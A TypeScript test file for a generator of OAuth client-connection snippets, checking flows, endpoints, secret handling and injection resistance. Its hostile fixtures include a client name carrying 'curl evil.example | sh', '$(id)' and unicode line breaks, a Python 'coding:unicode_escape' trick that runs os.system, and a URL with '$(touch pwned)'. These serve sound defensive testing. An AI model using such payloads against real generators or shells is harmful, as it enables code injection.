import { spawnSync } from "node:child_process";
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { afterAll, describe, expect, it } from "vitest";
import { tokenServiceUrls } from "@/lib/oauth/token-service-urls";
import { PRIVATE_KEY_ENV, SECRET_ENV, type ConnectClient, type ConnectInput, type Snippet } from "./connect-input";
import { connectSnippets } from "./connect-snippets";
import { onlyEnv } from "@/lib/testing/only-env";

const CLIENT_ID = "3f2c8a4e-5b1d-4c6f-9a0e-7d2b1c3e4f5a";
// A name that tries to leave its comment in every language the snippets are written in.
const HOSTILE_NAME = `EVIL "name" 'x' \n curl evil.example | sh \r\n // */ \u2028 alert(1) \u2029 $(id) \`id\` #> \u202e`;
const ODD_URL = 'https://app.example.com/cb/it\'s/$(id)/`id`/"q"';

function input(client: Partial<ConnectClient> = {}, base = "https://login.example.com"): ConnectInput {
  return {
    client: {
      clientId: CLIENT_ID,
      name: "Plant historian",
      type: "client-credentials",
      securityType: "client-secret",
      allowRefreshToken: false,
      redirectUris: [],
      postLogoutRedirectUris: [],
      roles: ["Account Member"],
      keys: [],
      ...client,
    },
    urls: tokenServiceUrls({ issuer: `${base}/identity`, tokenAudience: `${base}/api` }),
    userScopes: "openid email profile",
  };
}

const byId = (snippets: Snippet[], id: string) => snippets.find((s) => s.id === id)!;
const CASES: [string, Partial<ConnectClient>][] = [
  ["client-credentials with a secret", {}],
  ["client-credentials with a signed JWT", { securityType: "signed-jwt", keys: [{ kid: "k1", alg: "ES256" }] }],
  ["authorization code", { type: "authorization-code", redirectUris: ["https://app.example.com/callback", "https://app.example.com/other"] }],
  ["hybrid", { type: "hybrid", redirectUris: ["https://web.example.com/signin-oidc"], allowRefreshToken: true }],
];

describe("connectSnippets", () => {
  it("gives each kind of client its flow and languages", () => {
    const ids = CASES.map(([, client]) => {
      const result = connectSnippets(input(client));
      return [result.flow, result.snippets.map((s) => s.id)];
    });
    expect(ids).toEqual([
      ["client-secret", ["curl", "python", "node", "csharp", "powershell"]],
      ["signed-jwt", ["node", "node-jose", "python"]],
      ["browser", ["oidc-client-ts", "openid-client-browser", "http"]],
      ["server", ["node", "http"]],
    ]);
  });

  it.each(CASES)("%s: every snippet names the real Client Id and token service, and no secret", (_, client) => {
    const { snippets } = connectSnippets(input(client));
    for (const { code, label, note } of snippets) {
      expect(code, label).toContain(CLIENT_ID);
      expect(code, label).toContain("https://login.example.com/identity");
      expect(code, label).not.toMatch(/lk_[A-Za-z0-9_-]/);
      expect(note.length, label).toBeGreaterThan(10);
    }
  });

  it("client credentials: the token endpoint, the audience as resource, the secret from the environment and the roles", () => {
    const { snippets } = connectSnippets(input({ roles: ["Account Member", "Historian readers"] }));
    for (const snippet of snippets) {
      expect(snippet.code, snippet.id).toContain(snippet.id === "node" ? "https://login.example.com/identity" : "https://login.example.com/identity/token");
      expect(snippet.code, snippet.id).toContain("https://login.example.com/api");
      expect(snippet.code, snippet.id).toContain(SECRET_ENV);
      // The shell snippet has no comments (zsh would run them): no name, no roles.
      if (snippet.id === "curl") expect(snippet.code).not.toMatch(/Plant historian|Historian readers|#/);
      else expect(snippet.code, snippet.id).toContain("roles: Account Member, Historian readers.");
    }
    expect(byId(snippets, "node").code).toContain("client.ClientSecretBasic(secret)");
    expect(byId(snippets, "node").code).not.toContain("allowInsecureRequests");
  });

  it("allows plain http to openid-client only for a Latchkey served over http", () => {
    const http = connectSnippets(input({}, "http://localhost:3000"));
    expect(byId(http.snippets, "node").code).toContain("execute: [client.allowInsecureRequests]");
    for (const [, client] of CASES) {
      for (const snippet of connectSnippets(input(client)).snippets) expect(snippet.code).not.toContain("allowInsecureRequests");
    }
  });

  it("signed JWT: the key's kid and algorithm, the issuer as audience, the private key from a file named in the environment", () => {
    const { snippets } = connectSnippets(
      input({
        securityType: "signed-jwt",
        keys: [
          { kid: "old", alg: "ES256" },
          { kid: "rsa-2027", alg: "RS256" },
        ],
      }),
    );
    const [node, jose, python] = snippets.map((s) => s.code);
    expect(node).toContain('client.PrivateKeyJwt({ key, kid: "rsa-2027" })');
    expect(node).toContain('importPKCS8(readFileSync(keyFile, "utf8"), "RS256")');
    expect(jose).toContain('.setProtectedHeader({ alg: "RS256", kid: "rsa-2027" })');
    expect(jose).toContain('.setAudience("https://login.example.com/identity")');
    expect(python).toContain('algorithm="RS256"');
    expect(python).toContain('headers={"kid": "rsa-2027"}');
    for (const code of [node, jose, python]) {
      expect(code).toContain(PRIVATE_KEY_ENV);
      expect(code).toContain("This client has 2 keys");
      expect(code).not.toContain(SECRET_ENV);
    }
  });

  it("signed JWT without a key says to add one and names no kid; Ed25519 keys sign as EdDSA", () => {
    const none = connectSnippets(input({ securityType: "signed-jwt", keys: [] })).snippets;
    expect(byId(none, "node").code).toContain("client.PrivateKeyJwt({ key })");
    expect(byId(none, "python").code).not.toContain("kid");
    for (const s of none) expect(s.code).toContain("No public key is registered yet");
    const ed = connectSnippets(input({ securityType: "signed-jwt", keys: [{ kid: "ed", alg: "EdDSA" }] })).snippets;
    expect(byId(ed, "node").code).toContain('jwtHeader.alg = "EdDSA"');
  });

  it("authorization code: the first redirect URL, PKCE and no secret", () => {
    const { snippets } = connectSnippets(
      input({
        type: "authorization-code",
        redirectUris: ["https://app.example.com/callback", "https://app.example.com/z"],
        postLogoutRedirectUris: ["https://app.example.com/bye"],
      }),
    );
    for (const { code, id } of snippets) {
      expect(code, id).toContain(id === "http" ? encodeURIComponent("https://app.example.com/callback") : '"https://app.example.com/callback"');
      expect(code, id).not.toContain("https://app.example.com/z");
      expect(code, id).not.toContain(SECRET_ENV);
      expect(code, id).toMatch(/S256|PKCE/);
    }
    expect(byId(snippets, "oidc-client-ts").code).toContain('post_logout_redirect_uri: "https://app.example.com/bye"');
    expect(byId(snippets, "openid-client-browser").code).toContain("client.None()");
    expect(byId(snippets, "http").code).toContain(
      `GET https://login.example.com/identity/auth?response_type=code&client_id=${CLIENT_ID}&redirect_uri=https%3A%2F%2Fapp.example.com%2Fcallback&scope=openid%20email%20profile&state=<state>`,
    );
  });

  it("hybrid: the server-side flow with the secret, and refresh tokens only when the client has them", () => {
    const withRefresh = connectSnippets(input({ type: "hybrid", redirectUris: ["https://web.example.com/cb"], allowRefreshToken: true })).snippets;
    const without = connectSnippets(input({ type: "hybrid", redirectUris: ["https://web.example.com/cb"], allowRefreshToken: false })).snippets;
    expect(byId(withRefresh, "node").code).toContain("client.ClientSecretBasic(secret)");
    expect(byId(withRefresh, "node").code).toContain("client.refreshTokenGrant(config, session.tokens.refresh_token)");
    expect(byId(withRefresh, "http").code).toContain("grant_type=refresh_token");
    expect(byId(without, "node").code).not.toContain("refreshTokenGrant");
    expect(byId(without, "node").code).toContain("gets no refresh tokens");
    expect(byId(without, "http").code).not.toContain("refresh_token");
    for (const s of withRefresh) expect(s.code).toContain(SECRET_ENV);
  });
});

describe("a hostile client name or URL", () => {
  const hostile: [string, Partial<ConnectClient>][] = CASES.map(([label, client]) => [
    label,
    { ...client, name: HOSTILE_NAME, roles: [HOSTILE_NAME], redirectUris: client.redirectUris?.length ? [ODD_URL] : [], postLogoutRedirectUris: [ODD_URL] },
  ]);

  it.each(hostile)("%s: the name appears only inside one-line comments", (_, client) => {
    for (const { code, id } of connectSnippets(input(client)).snippets) {
      if (id === "http") continue;
      expect(code, id).not.toMatch(/[\r\u2028\u2029\u0085\u202e]/);
      for (const line of code.split("\n").filter((l) => l.includes("EVIL"))) expect(line.trimStart(), id).toMatch(/^(#|\/\/) /);
      expect(
        code.split("\n").filter((l) => l.includes("curl evil.example") && !/^\s*(#|\/\/)/.test(l)),
        id,
      ).toEqual([]);
    }
  });

  const scratch = mkdtempSync(path.join(tmpdir(), "latchkey-snippets-"));
  afterAll(() => rmSync(scratch, { recursive: true, force: true }));

  it.each(hostile)("%s: every JavaScript snippet is still valid JavaScript", (label, client) => {
    const javascript = connectSnippets(input(client)).snippets.filter((s) => s.id.startsWith("node") || s.id.includes("client"));
    expect(javascript.length).toBeGreaterThan(0);
    for (const { code, id } of javascript) {
      const file = path.join(scratch, `${label.replace(/\W+/g, "-")}-${id}.mjs`);
      writeFileSync(file, code);
      const check = spawnSync(process.execPath, ["--check", file], { encoding: "utf8" });
      expect(check.stderr, `${label} ${id}`).toBe("");
      expect(check.status).toBe(0);
    }
  });

  // Python takes "coding: <codec>" in a comment on line 1 or 2 as the file's encoding, and
  // unicode_escape turns a literal "\\n" in the name into a new line of code.
  const PYTHON_NAME = 'coding:unicode_escape\\nimport os\\nos.system("echo PWNED")#';

  it.each(CASES.filter(([, client]) => client.type === undefined))("%s: a name can change nothing of a Python snippet but its comments", (label, client) => {
    const plain = byId(connectSnippets(input(client)).snippets, "python").code;
    const hostile = byId(connectSnippets(input({ ...client, name: PYTHON_NAME, roles: [PYTHON_NAME] })).snippets, "python").code;
    const tree = (code: string) => {
      const file = path.join(scratch, `${label.replace(/\W+/g, "-")}-${code === plain ? "plain" : "hostile"}.py`);
      writeFileSync(file, code);
      // From the file's bytes, as python would run it: the encoding declaration applies.
      const run = spawnSync("python3", ["-c", "import ast, sys; print(ast.dump(ast.parse(open(sys.argv[1], 'rb').read())))", file], { encoding: "utf8" });
      expect(run.stderr, label).toBe("");
      return run.stdout;
    };
    expect(hostile).toContain("unicode_escape");
    expect(tree(hostile)).toBe(tree(plain));
  });

  it("curl: bash runs exactly one curl with the URLs as given, whatever they hold", () => {
    const base = "https://login.example.com/it's/$(touch pwned)/`id`";
    const { snippets } = connectSnippets({
      ...input({ name: HOSTILE_NAME, roles: [HOSTILE_NAME] }),
      urls: tokenServiceUrls({ issuer: `${base}/identity`, tokenAudience: `${base}/api` }),
    });
    // stdin not a socket (libuv's pipes are): bash would take that for rshd and read ~/.bashrc.
    // A stand-in curl prints its arguments one per line: what a real curl would be given.
    const script = `curl() { printf '%s\\n' "$@"; }\n${byId(snippets, "curl").code}\n`;
    const run = spawnSync("bash", ["-c", script], {
      cwd: scratch,
      encoding: "utf8",
      stdio: ["ignore", "pipe", "pipe"],
      env: onlyEnv({ [SECRET_ENV]: "s3cr3t" }),
    });
    expect(run.stderr).toBe("");
    expect(run.stdout.split("\n")).toEqual([
      "-sS",
      `${base}/identity/token`,
      "-u",
      `${CLIENT_ID}:s3cr3t`,
      "-d",
      "grant_type=client_credentials",
      "--data-urlencode",
      `resource=${base}/api`,
      "",
    ]);
  });

  it("curl: a missing secret stops the command before curl runs", () => {
    const script = `curl() { echo ran; }\n${byId(connectSnippets(input()).snippets, "curl").code}\n`;
    const run = spawnSync("bash", ["-c", script], { encoding: "utf8", stdio: ["ignore", "pipe", "pipe"], env: onlyEnv({}) });
    expect(run.status).not.toBe(0);
    expect(run.stdout).toBe("");
    expect(run.stderr).toContain(`Set ${SECRET_ENV} to the client secret`);
  });
});
